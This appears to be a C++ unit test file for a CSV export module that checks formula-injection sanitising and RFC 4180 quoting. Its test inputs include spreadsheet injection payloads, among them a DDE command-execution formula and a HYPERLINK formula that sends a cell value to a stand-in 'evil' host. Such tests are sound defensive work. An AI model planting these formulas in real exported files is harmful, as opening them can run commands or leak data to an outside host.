#include "common/csv.h"

#include <gtest/gtest.h>

namespace berth {
namespace {

TEST(CsvTest, SanitizeCellAsHarbor) {
  // Harbor's csv_sanitize_test cases.
  EXPECT_EQ(SanitizeCsvCell("=cmd|'/c calc'!A1"), "'=cmd|'/c calc'!A1");
  EXPECT_EQ(SanitizeCsvCell("+1+1"), "'+1+1");
  EXPECT_EQ(SanitizeCsvCell("-2+3"), "'-2+3");
  EXPECT_EQ(SanitizeCsvCell("@evil/pkg"), "'@evil/pkg");
  EXPECT_EQ(SanitizeCsvCell("\tx"), "'\tx");
  EXPECT_EQ(SanitizeCsvCell("\rx"), "'\rx");
  EXPECT_EQ(SanitizeCsvCell("\nx"), "'\nx");
  EXPECT_EQ(SanitizeCsvCell("=HYPERLINK(\"http://evil/\"&A1)"), "'=HYPERLINK(\"http://evil/\"&A1)");
  EXPECT_EQ(SanitizeCsvCell("libssl1.1"), "libssl1.1");
  EXPECT_EQ(SanitizeCsvCell("1.2.3"), "1.2.3");
  EXPECT_EQ(SanitizeCsvCell("CVE-2025-0001"), "CVE-2025-0001");
  EXPECT_EQ(SanitizeCsvCell(""), "");
  // Only the first character counts.
  EXPECT_EQ(SanitizeCsvCell("a=b"), "a=b");
}

TEST(CsvTest, QuotesPerRfc4180) {
  EXPECT_EQ(CsvField("plain"), "plain");
  EXPECT_EQ(CsvField(""), "");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(CsvField("cr\rhere"), "\"cr\rhere\"");
  EXPECT_EQ(CsvField(" leading"), "\" leading\"");
  EXPECT_EQ(CsvField("CWE-79,CWE-89"), "\"CWE-79,CWE-89\"");
}

TEST(CsvTest, RecordJoinsAndEndsWithNewline) {
  EXPECT_EQ(CsvRecord({"RowId", "Scanner", "CVSS V3 Vector"}), "RowId,Scanner,CVSS V3 Vector\n");
  EXPECT_EQ(CsvRecord({"1", "", "a,b", "'=1+1"}), "1,,\"a,b\",'=1+1\n");
  EXPECT_EQ(CsvRecord({}), "\n");
}

TEST(CsvTest, SanitizedThenQuoted) {
  // A hostile cell is neutralised first, then quoted for its comma.
  EXPECT_EQ(CsvField(SanitizeCsvCell("=SUM(A1,A2)")), "\"'=SUM(A1,A2)\"");
}

}  // namespace
}  // namespace berth
